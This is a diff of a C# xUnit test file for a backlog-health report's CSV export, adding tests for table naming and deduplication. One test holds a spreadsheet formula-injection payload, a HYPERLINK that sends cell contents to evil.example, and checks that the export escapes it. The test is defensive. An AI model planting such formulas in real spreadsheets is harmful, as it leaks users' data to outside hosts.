@@ -1,3 +1,8 @@
+using BacklogHealth.Core.Health;
+using BacklogHealth.Core.Sentences;
+using BacklogHealth.Core.WorkItems;
+using BacklogHealth.Reports.Pages;
+
 namespace BacklogHealth.Reports.Tests.Pages;
 
 public sealed class CsvPageTests
@@ -29,6 +34,35 @@ public sealed class CsvPageTests
     }
 
     [Fact]
+    public void A_table_has_the_same_name_whatever_other_tables_its_part_has_that_week()
+    {
+        static HealthInput Dated(HealthInput input) => input with
+        {
+            Releases = [new Release("2.0", DateOnly.FromDateTime(SampleHealth.Monday.Date).AddDays(40), false)],
+            OpenItems = [.. input.OpenItems.Select((o, n) => o with { Item = o.Item with { Due = DateOnly.FromDateTime(SampleHealth.Monday.Date).AddDays(20 + n), FixVersions = n % 4 == 0 ? ["2.0"] : [] } })],
+        };
+
+        var both = Names(Audience.ProductOwner, Dated, "dates-in-the-tracker");
+        Assert.Equal(["dates-in-the-tracker-releases", "dates-in-the-tracker-items"], both);
+        Assert.Equal(both[1..], Names(Audience.ProductOwner, i => Dated(i) with { Releases = [] }, "dates-in-the-tracker"));
+
+        var missing = Names(Audience.Coach, i => i, "not-ready");
+        var first = Names(Audience.Coach, i => i with { OpenItems = [.. i.OpenItems.Where(o => o.Score.Findings.Any(f => f.RuleId == "CL001") || o.StateId != "To do")] }, "not-ready");
+        Assert.True(missing.Count > 1);
+        Assert.Equal("not-ready-cl001", Assert.Single(first));
+        Assert.Contains(first[0], missing);
+    }
+
+    [Fact]
+    public void Two_tables_of_one_name_are_told_apart()
+    {
+        static Table Of(string words) => Table.Of([new($"Word")], [[Sentence.Data(words)]]) with { Name = "b" };
+        var files = CsvPage.Write(new Page($"T", $"L", Saying.English, [new Section("a", [Of("one"), Of("two"), Of("three")])]));
+
+        Assert.Equal([("a-b", "one"), ("a-b-2", "two"), ("a-b-3", "three")], files.Select(f => (f.Name, f.Text.Split("\r\n")[1])));
+    }
+
+    [Fact]
     public void Keys_stand_as_keys_with_their_addresses_in_a_column_behind_them()
     {
         var lines = Sample.Value[Audience.Coach].Csv.Single(c => c.Name == "ageing").Text.Split("\r\n");
@@ -42,7 +76,7 @@ public sealed class CsvPageTests
     {
         var groups = Sample.Value[Audience.Coach].Csv.Where(c => c.Name.StartsWith("not-ready", StringComparison.Ordinal)).ToList();
 
-        Assert.Equal(["not-ready", "not-ready-2"], groups.Take(2).Select(c => c.Name));
+        Assert.Equal(["not-ready-cl004", "not-ready-cl001"], groups.Take(2).Select(c => c.Name));
         Assert.All(groups, c => Assert.StartsWith("Group,Item,\"Item, link\",Title,", c.Text, StringComparison.Ordinal));
         Assert.Contains(" items lack acceptance criteria,CHK-", groups[0].Text, StringComparison.Ordinal);
     }
@@ -73,6 +107,9 @@ public sealed class CsvPageTests
         Assert.Contains(report.Csv, c => c.Text.Contains("\"'=HYPERLINK(\"\"http://evil.example?x=\"\"&A1,\"\"Refund\"\")\"", StringComparison.Ordinal));
         Assert.DoesNotContain(report.Csv, c => c.Text.Contains(",\"=HYPERLINK", StringComparison.Ordinal) || c.Text.Contains("\n\"=HYPERLINK", StringComparison.Ordinal));
     }
+
+    private static List<string> Names(Audience audience, Func<HealthInput, HealthInput> change, string part) =>
+        [.. ReportWriter.Render(audience, new SampleHealth { Change = change }.Input()).Csv.Select(c => c.Name).Where(n => n.StartsWith(part, StringComparison.Ordinal))];
 
     private static string[] Throughput(RenderedReport report) => report.Csv.Single(c => c.Name == "record-throughput").Text.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
 
